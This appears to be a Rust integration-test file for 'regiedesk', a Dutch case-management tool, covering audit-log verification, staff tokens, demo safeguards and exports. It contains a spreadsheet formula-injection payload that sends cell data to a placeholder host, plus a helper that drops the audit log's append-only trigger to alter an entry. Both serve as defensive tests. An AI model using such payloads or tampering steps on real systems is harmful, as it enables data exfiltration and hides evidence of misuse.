//! The binary as an operator uses it: `audit verify`, `staff`, `serve --demo`.

mod support;

use std::process::Command;

use regiedesk::server::store;
use support::{Backend, Database, TestServer};

fn regiedesk(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_regiedesk"))
        .args(args)
        .env("RUST_LOG", "warn")
        .output()
        .expect("regiedesk runs")
}

/// Asserts that a command succeeded, showing what it said if not.
fn succeeded(output: &std::process::Output) {
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
}

fn stdout(output: &std::process::Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// Alters one stored audit entry behind the application's back, as someone
/// with raw database access would (dropping the append-only guard first).
async fn tamper(db: &Database, seq: i64) {
    match db {
        Database::Sqlite { url, .. } => {
            let pool = sqlx::SqlitePool::connect(url).await.unwrap();
            sqlx::query("DROP TRIGGER audit_log_no_update")
                .execute(&pool)
                .await
                .unwrap();
            sqlx::query("UPDATE audit_log SET actor = 'someone-else' WHERE seq = $1")
                .bind(seq)
                .execute(&pool)
                .await
                .unwrap();
            pool.close().await;
        }
        Database::Postgres { url, .. } => {
            let pool = sqlx::PgPool::connect(url).await.unwrap();
            sqlx::query("DROP TRIGGER audit_log_append_only ON audit_log")
                .execute(&pool)
                .await
                .unwrap();
            sqlx::query("UPDATE audit_log SET actor = 'someone-else' WHERE seq = $1")
                .bind(seq)
                .execute(&pool)
                .await
                .unwrap();
            pool.close().await;
        }
    }
}

async fn audit_verify_finds_an_altered_entry(backend: Backend) {
    let Some(s) = TestServer::start(backend).await else {
        return;
    };
    let id = s.planned_case(0, "jeugd", "cr-01").await;
    support::expect(s.get("pm", &format!("/api/v1/cases/{id}")).await, 200).await;
    let ok = regiedesk(&["audit", "verify", "--database-url", s.db.url()]);
    assert!(ok.status.success(), "{}", stdout(&ok));
    assert!(stdout(&ok).contains("intact: 6 regels"), "{}", stdout(&ok));

    // The append-only guard refuses edits through SQL...
    let refused = match &s.db {
        Database::Sqlite { url, .. } => {
            let pool = sqlx::SqlitePool::connect(url).await.unwrap();
            sqlx::query("DELETE FROM audit_log WHERE seq = 3")
                .execute(&pool)
                .await
                .is_err()
        }
        Database::Postgres { url, .. } => {
            let pool = sqlx::PgPool::connect(url).await.unwrap();
            sqlx::query("DELETE FROM audit_log WHERE seq = 3")
                .execute(&pool)
                .await
                .is_err()
        }
    };
    assert!(refused, "the audit log is append-only");
    // ... and the chain finds what gets past it.
    tamper(&s.db, 4).await;
    let broken = regiedesk(&["audit", "verify", "--database-url", s.db.url()]);
    assert_eq!(broken.status.code(), Some(1));
    assert!(
        stdout(&broken).contains("auditregel 4 is gewijzigd"),
        "{}",
        stdout(&broken)
    );
}

#[tokio::test]
async fn audit_verify_finds_an_altered_entry_sqlite() {
    audit_verify_finds_an_altered_entry(Backend::Sqlite).await;
}

#[tokio::test]
async fn audit_verify_finds_an_altered_entry_postgres() {
    audit_verify_finds_an_altered_entry(Backend::Postgres).await;
}

#[tokio::test]
async fn staff_get_tokens_that_work_against_the_api() {
    let Some(db) = Database::create(Backend::Sqlite).await else {
        return;
    };
    let url = db.url().to_string();
    let put = regiedesk(&[
        "staff",
        "put",
        "--database-url",
        &url,
        "--login",
        "pr-x",
        "--name",
        "X. Test",
        "--role",
        "procesregisseur_jeugd",
        "--organisation",
        "gemeente",
    ]);
    succeeded(&put);
    let bad_role = regiedesk(&[
        "staff",
        "put",
        "--database-url",
        &url,
        "--login",
        "y",
        "--name",
        "Y",
        "--role",
        "wethouder",
        "--organisation",
        "gemeente",
    ]);
    assert!(!bad_role.status.success());
    let token = regiedesk(&["staff", "token", "--database-url", &url, "pr-x"]);
    assert!(token.status.success());
    let token = stdout(&token).trim().to_string();
    assert_eq!(token.len(), 64);
    let unknown = regiedesk(&["staff", "token", "--database-url", &url, "nobody"]);
    assert!(!unknown.status.success());

    let store = store::connect(&url).await.unwrap();
    let holder = store
        .person_by_token(&regiedesk::server::http::token_hash(&token))
        .await
        .unwrap()
        .expect("the token identifies its login");
    assert_eq!(holder.person.login, "pr-x");
    assert!(!holder.service, "a person's token unless --service");
    assert!(
        store
            .person_by_token(&regiedesk::server::http::token_hash("demo-pr-x"))
            .await
            .unwrap()
            .is_none()
    );

    // The beheerder's acts are on record, under the system user, without
    // the token; so is checking the log.
    let revoke = regiedesk(&["staff", "revoke", "--database-url", &url, "pr-x"]);
    assert!(revoke.status.success());
    let verify = regiedesk(&["audit", "verify", "--database-url", &url]);
    assert!(verify.status.success());
    let (entries, _) = store.audit_chain().await.unwrap();
    let acts: Vec<(&str, &str)> = entries
        .iter()
        .filter(|e| e.actor.starts_with("beheer:"))
        .map(|e| (e.action.as_str(), e.reason.as_deref().unwrap_or("")))
        .collect();
    assert_eq!(
        acts,
        [
            ("staff.put", "pr-x als procesregisseur_jeugd, actief"),
            ("staff.token", "token (persoonlijk) voor pr-x"),
            ("staff.revoke", "1 token(s) van pr-x ingetrokken"),
            (
                "audit.verify",
                &*format!("intact: {} regels", entries.len() - 1)
            ),
        ]
    );
    assert!(
        entries
            .iter()
            .all(|e| !e.reason.as_deref().unwrap_or("").contains(&token))
    );
}

#[test]
fn the_demo_refuses_to_listen_beyond_loopback() {
    let output = regiedesk(&["serve", "--demo", "--bind", "0.0.0.0:0"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("loopback"));
}

#[test]
fn a_bad_configuration_stops_regiedesk_with_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("regiedesk.toml");
    std::fs::write(&path, "[norms]\ncounting = \"werkdagen\"\n").unwrap();
    let output = regiedesk(&[
        "--config",
        path.to_str().unwrap(),
        "serve",
        "--demo",
        "--bind",
        "127.0.0.1:0",
    ]);
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("regiedesk.toml")
            && stderr.contains("line 2")
            && stderr.contains("werkdagen"),
        "{stderr}"
    );
}

fn export(server: &str, args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_regiedesk"))
        .args(["export", "--server", server])
        .args(args)
        .env("REGIEDESK_TOKEN", "demo-pr-jeugd")
        .env("RUST_LOG", "warn")
        .output()
        .expect("regiedesk runs")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn export_writes_the_board_as_the_desk_derives_it() {
    let s = TestServer::start(Backend::Sqlite).await.unwrap();
    let case = s.referral(0, "jeugd").await;
    let number = case["number"].as_str().unwrap().to_string();
    let pseudonym = case["pseudonym"].as_str().unwrap().to_string();
    // Three days on, the referral is still unassigned: past the one-day norm.
    let later = (support::now() + chrono::Days::new(3)).to_rfc3339();
    let output = export(&s.base, &["stagnatie", "--format", "csv", "--now", &later]);
    succeeded(&output);
    let csv = stdout(&output);
    let mut lines = csv.lines();
    assert_eq!(
        lines.next(),
        Some("Zaak,Huish.,Signalen,Te laat,Risico,Casusregisseur,Organisatie")
    );
    let row: Vec<&str> = lines
        .next()
        .expect("one stagnant case")
        .split(',')
        .collect();
    // The cells as the desk shows them: labels, lateness in working days,
    // a dash for nobody.
    assert_eq!(
        row[..3],
        [number.as_str(), pseudonym.as_str(), "niet toegewezen"]
    );
    // "+3 wd" would be a formula to a spreadsheet: it comes out as text.
    assert!(
        row[3].starts_with("'+") && row[3].ends_with(" wd"),
        "{row:?}"
    );
    assert_eq!(row[5], "—");
    assert_eq!(lines.next(), None);

    // JSON keeps the raw fields.
    let output = export(&s.base, &["stagnatie", "--format", "json", "--now", &later]);
    let rows: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(rows[0]["number"], number.as_str());
    assert_eq!(rows[0]["signals"][0]["kind"], "unassigned");
    assert!(rows[0]["signals"][0]["days_late"].as_i64().unwrap() >= 1);
    // The same referral, exported for the moment it arrived, is not late.
    let output = export(
        &s.base,
        &[
            "stagnatie",
            "--format",
            "json",
            "--now",
            &support::now().to_rfc3339(),
        ],
    );
    assert_eq!(
        serde_json::from_slice::<serde_json::Value>(&output.stdout).unwrap(),
        serde_json::json!([])
    );
}

/// An escalation reason typed as a formula opens as text in a spreadsheet.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_exported_formula_is_text() {
    let s = TestServer::start(Backend::Sqlite).await.unwrap();
    let id = s.planned_case(0, "jeugd", "cr-01").await;
    let reason = r#"=HYPERLINK("http://x.example/?"&A1,"klik")"#;
    support::expect(
        s.act(
            "pr-jeugd",
            id,
            "escalate",
            serde_json::json!({"reason": reason}),
        )
        .await,
        200,
    )
    .await;
    let output = export(&s.base, &["doorzettingsmacht", "--format", "csv"]);
    succeeded(&output);
    let csv = stdout(&output);
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let column = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "Reden")
        .expect("a Reden column");
    let row = reader
        .records()
        .next()
        .expect("the escalated case")
        .unwrap();
    assert_eq!(&row[column], format!("'{reason}"));
    assert!(
        reader
            .records()
            .flatten()
            .all(|row| row.iter().all(|cell| !cell.starts_with(['=', '@']))),
        "{csv}"
    );
}

/// A proxy in the environment never sees a token sent in the clear: a
/// plain-http server (here on this machine) is reached directly.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_proxy_never_reads_a_token_in_the_clear() {
    let s = TestServer::start(Backend::Sqlite).await.unwrap();
    let proxy = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let proxy_url = format!("http://{}", proxy.local_addr().unwrap());
    let heard = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = heard.clone();
    tokio::spawn(async move {
        while let Ok((_connection, _)) = proxy.accept().await {
            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        }
    });
    let output = Command::new(env!("CARGO_BIN_EXE_regiedesk"))
        .args([
            "export", "caseload", "--format", "json", "--server", &s.base,
        ])
        .env("REGIEDESK_TOKEN", "demo-pr-jeugd")
        .env("HTTP_PROXY", &proxy_url)
        .env("http_proxy", &proxy_url)
        .env("ALL_PROXY", &proxy_url)
        .env("HTTPS_PROXY", &proxy_url)
        .env_remove("NO_PROXY")
        .env_remove("no_proxy")
        .output()
        .unwrap();
    succeeded(&output);
    assert_eq!(
        heard.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "the proxy was sent the request"
    );
}

#[test]
fn export_of_an_unknown_board_names_the_valid_ones() {
    let output = export("http://127.0.0.1:9", &["stagnation"]);
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("onbekend bord \"stagnation\"; de borden zijn caseload, stagnatie, mandaat, doorzettingsmacht, doorstroom, waakvlam"),
        "{stderr}"
    );
}

/// The desk and `export` without a token, with the desk's options before
/// the subcommand (as `regiedesk --server URL export ...` has always taken).
fn without_a_token(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_regiedesk"))
        .args(args)
        .env_remove("REGIEDESK_TOKEN")
        .env("REGIEDESK_CONFIG", "/dev/null")
        .env("REGIEDESK_LOG", "/dev/null")
        // No session of `regiedesk login` either.
        .env(
            "XDG_DATA_HOME",
            std::env::temp_dir().join(format!("regiedesk-no-login-{}", std::process::id())),
        )
        .output()
        .unwrap()
}

#[test]
fn the_desk_does_not_start_without_a_token_and_says_so_in_dutch() {
    for args in [
        &["--server", "http://127.0.0.1:9"][..],
        &["--server", "http://127.0.0.1:9", "export", "stagnatie"][..],
        &["export", "stagnatie", "--server", "http://127.0.0.1:9"][..],
    ] {
        let output = without_a_token(args);
        assert_eq!(output.status.code(), Some(2), "{args:?}");
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(
            stderr.trim_end(),
            "regiedesk: niet aangemeld bij http://127.0.0.1:9: log in met `regiedesk login --server http://127.0.0.1:9`, of zet REGIEDESK_TOKEN (een token van de functioneel beheerder)",
            "{args:?}"
        );
    }
    // An empty variable is no token either.
    let output = Command::new(env!("CARGO_BIN_EXE_regiedesk"))
        .args(["--server", "http://127.0.0.1:9"])
        .env("REGIEDESK_TOKEN", "")
        .env("REGIEDESK_CONFIG", "/dev/null")
        .env("REGIEDESK_LOG", "/dev/null")
        .env(
            "XDG_DATA_HOME",
            std::env::temp_dir().join(format!("regiedesk-no-login-{}", std::process::id())),
        )
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&output.stderr).contains("niet aangemeld"));
}

#[test]
fn serve_help_lists_only_what_applies_to_the_server() {
    let help = regiedesk(&["serve", "--help"]);
    assert!(help.status.success());
    let text = stdout(&help);
    for option in [
        "--bind",
        "--database-url",
        "--demo",
        "--simulate",
        "--config",
    ] {
        assert!(text.contains(option), "{option} missing:\n{text}");
    }
    assert!(!text.contains("--server"), "--server listed:\n{text}");
    // Nor do the operator's commands take the desk's options (they speak
    // the operator's language, --lang, like the desk)...
    for command in [
        &["audit", "verify", "--help"][..],
        &["staff", "put", "--help"][..],
    ] {
        let text = stdout(&regiedesk(command));
        assert!(
            !text.contains("--server") && text.contains("--lang"),
            "{command:?}:\n{text}"
        );
    }
    // ... while the desk itself and `export` do.
    for command in [&["--help"][..], &["export", "--help"][..]] {
        let text = stdout(&regiedesk(command));
        assert!(
            text.contains("--server") && text.contains("--lang"),
            "{command:?}:\n{text}"
        );
    }
    assert!(stdout(&regiedesk(&["demo", "--help"])).contains("--lang"));
}

#[test]
fn the_desks_options_before_serve_are_refused_not_ignored() {
    let output = regiedesk(&["--server", "http://127.0.0.1:9", "serve", "--demo"]);
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("--server hoort bij de desk; `regiedesk serve` gebruikt het niet"),
        "{stderr}"
    );
    // Options of `serve` itself are clap's business: unknown there.
    let output = regiedesk(&["serve", "--insecure-http"]);
    assert_eq!(output.status.code(), Some(2));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn export_doorstroom_writes_the_servers_figures() {
    let s = TestServer::start(Backend::Sqlite).await.unwrap();
    s.referral(0, "jeugd").await;
    s.referral(1, "volwassenen").await;
    let range = ["--from", "2026-11-18", "--to", "2026-11-24", "--by", "week"];
    let output = Command::new(env!("CARGO_BIN_EXE_regiedesk"))
        .args([
            "export",
            "doorstroom",
            "--format",
            "csv",
            "--server",
            &s.base,
        ])
        .args(range)
        .env("REGIEDESK_TOKEN", "demo-pm")
        .output()
        .unwrap();
    succeeded(&output);
    let csv = stdout(&output);
    assert!(csv.starts_with("cijfer,waarde\n"), "{csv}");
    assert!(csv.contains("\ninflow.total,2\n"), "{csv}");
    assert!(csv.contains("\ninflow.by_domain.volwassenen,1\n"), "{csv}");
    assert!(csv.contains("\nseries.1.from,2026-11-23\n"), "{csv}");
    let output = Command::new(env!("CARGO_BIN_EXE_regiedesk"))
        .args([
            "export",
            "doorstroom",
            "--format",
            "json",
            "--server",
            &s.base,
        ])
        .args(range)
        .env("REGIEDESK_TOKEN", "demo-cr-01")
        .output()
        .unwrap();
    assert_eq!(
        output.status.code(),
        Some(2),
        "a casusregisseur gets no figures"
    );
    assert!(String::from_utf8_lossy(&output.stderr).contains("doorstroomcijfers"));
}

fn stderr(output: &std::process::Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// Runs a `serve` that must refuse to start; one that starts instead is
/// stopped after a minute and fails the test rather than hanging it.
fn refused_serve(args: &[&str]) -> String {
    let mut child = Command::new(env!("CARGO_BIN_EXE_regiedesk"))
        .args(args)
        .env("RUST_LOG", "warn")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while child.try_wait().unwrap().is_none() {
        if std::time::Instant::now() > deadline {
            child.kill().unwrap();
            panic!("{args:?} started serving instead of refusing");
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let output = child.wait_with_output().unwrap();
    assert!(!output.status.success());
    stderr(&output)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_demo_database_never_serves_for_real() {
    use regiedesk::clock::Clock;
    use regiedesk::domain::norms::Norms;
    use regiedesk::server::launch;

    let db = Database::create(Backend::Sqlite).await.unwrap();
    let url = db.url().to_string();
    let demo = store::connect(&url).await.unwrap();
    launch::seed_demo(
        &demo,
        &url,
        Clock::Frozen(support::now()),
        &Norms::default(),
        1,
        false,
        false,
    )
    .await
    .unwrap();

    // Plain `serve` refuses: the demo's tokens are public.
    let said = refused_serve(&["serve", "--bind", "127.0.0.1:0", "--database-url", &url]);
    assert!(said.contains("reset-demo"), "{said}");
    // So does `staff`: a real person does not belong in a demo.
    let put = [
        "staff",
        "put",
        "--database-url",
        &url,
        "--login",
        "pr-echt",
        "--name",
        "E. Cht",
        "--role",
        "procesregisseur_jeugd",
        "--organisation",
        "gemeente",
    ];
    let output = regiedesk(&put);
    assert!(!output.status.success());
    assert!(
        stderr(&output).contains("reset-demo"),
        "{}",
        stderr(&output)
    );

    // Written to through the API: `serve --demo` no longer reseeds silently.
    let admin = demo.person("admin").await.unwrap().unwrap();
    let draft =
        regiedesk::server::audit::AuditDraft::ok(&admin, support::now(), "household.create");
    demo.create_household("HH-NIEUW", 3, draft).await.unwrap();
    let said = refused_serve(&[
        "serve",
        "--demo",
        "--bind",
        "127.0.0.1:0",
        "--database-url",
        &url,
    ]);
    assert!(
        said.contains("--reset") && said.contains("--keep"),
        "{said}"
    );
    assert!(
        demo.household_ids().await.unwrap().len() > 1000,
        "nothing was wiped"
    );

    // Emptied on purpose, it takes real staff; their tokens can be revoked.
    let output = regiedesk(&["reset-demo", "--database-url", &url]);
    assert!(output.status.success(), "{}", stderr(&output));
    assert_eq!(demo.contents().await.unwrap(), store::Contents::Empty);
    let output = regiedesk(&put);
    assert!(output.status.success(), "{}", stderr(&output));
    let output = regiedesk(&["staff", "token", "--database-url", &url, "pr-echt"]);
    assert!(output.status.success(), "{}", stderr(&output));
    let token = stdout(&output).trim().to_string();
    let hash = regiedesk::server::http::token_hash(&token);
    assert!(demo.person_by_token(&hash).await.unwrap().is_some());
    let output = regiedesk(&["staff", "revoke", "--database-url", &url, "pr-echt"]);
    assert!(output.status.success(), "{}", stderr(&output));
    assert!(
        stdout(&output).contains("1 token(s)"),
        "{}",
        stdout(&output)
    );
    assert!(demo.person_by_token(&hash).await.unwrap().is_none());
    assert!(demo.token_revoked(&hash).await.unwrap().is_some());
    // And reset-demo never empties real data.
    let output = regiedesk(&["reset-demo", "--database-url", &url]);
    assert!(!output.status.success());
    assert!(demo.person("pr-echt").await.unwrap().is_some());
}

#[test]
fn completions_and_the_manual_page_describe_every_command() {
    for shell in ["bash", "zsh", "fish"] {
        let output = regiedesk(&["completions", shell]);
        assert!(output.status.success(), "{shell}");
        let text = stdout(&output);
        for command in ["login", "logout", "serve", "staff", "export"] {
            assert!(text.contains(command), "{shell} completes {command}");
        }
    }
    let output = regiedesk(&["man"]);
    assert!(output.status.success());
    let page = stdout(&output);
    assert!(
        page.starts_with(".ie") || page.contains(".TH regiedesk"),
        "{}",
        &page[..200.min(page.len())]
    );
    assert!(page.contains("login"));
    let output = regiedesk(&["config", "schema"]);
    assert!(output.status.success());
    let schema: serde_json::Value = serde_json::from_str(&stdout(&output)).unwrap();
    assert!(schema["$defs"]["OidcConfig"]["properties"]["issuer"].is_object());
}

#[test]
fn operators_are_spoken_to_in_dutch_unless_they_ask_for_english() {
    let dir = tempfile::tempdir().unwrap();
    let url = format!("sqlite://{}", dir.path().join("staff.db").display());
    let put = |lang: Option<&str>| {
        let mut args = vec![
            "staff",
            "put",
            "--database-url",
            &url,
            "--login",
            "pr-x",
            "--name",
            "P. X",
            "--role",
            "procesregisseur_jeugd",
            "--organisation",
            "gemeente",
        ];
        if let Some(lang) = lang {
            args.extend(["--lang", lang]);
        }
        regiedesk(&args)
    };
    let dutch = put(None);
    assert!(dutch.status.success(), "{}", stderr(&dutch));
    assert_eq!(
        stdout(&dutch).trim(),
        "pr-x bewaard als procesregisseur_jeugd"
    );
    let english = put(Some("en"));
    assert_eq!(
        stdout(&english).trim(),
        "pr-x saved as procesregisseur_jeugd"
    );
    let unknown = regiedesk(&["staff", "token", "--database-url", &url, "niemand"]);
    assert!(
        stderr(&unknown).contains("bestaat niet"),
        "{}",
        stderr(&unknown)
    );
    let unknown = regiedesk(&[
        "--lang",
        "en",
        "staff",
        "revoke",
        "--database-url",
        &url,
        "nobody",
    ]);
    assert!(
        stderr(&unknown).contains("no such login"),
        "{}",
        stderr(&unknown)
    );
    let verify = regiedesk(&["audit", "verify", "--database-url", &url]);
    assert!(
        stdout(&verify).starts_with("auditlog intact"),
        "{}",
        stdout(&verify)
    );
    let verify = regiedesk(&["audit", "verify", "--lang", "en", "--database-url", &url]);
    assert!(
        stdout(&verify).starts_with("audit log intact"),
        "{}",
        stdout(&verify)
    );
}

/// Issue 21, point 12: export's words are the desk's (Dutch by default),
/// its help lists every board, and a server that does not answer is named.
#[test]
fn export_says_in_dutch_what_is_wrong_and_where_it_looked() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let nobody = format!("http://{}", listener.local_addr().unwrap());
    drop(listener);
    let output = export(&nobody, &["stagnatie"]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains(&format!("geen verbinding met {nobody}")) && stderr.contains("--server"),
        "{stderr}"
    );
    let output = export(&nobody, &["stagnation"]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("onbekend bord \"stagnation\""), "{stderr}");
    let help = stdout(&regiedesk(&["export", "--help"]));
    assert!(
        help.contains("doorzettingsmacht, doorstroom, waakvlam"),
        "{help}"
    );
}
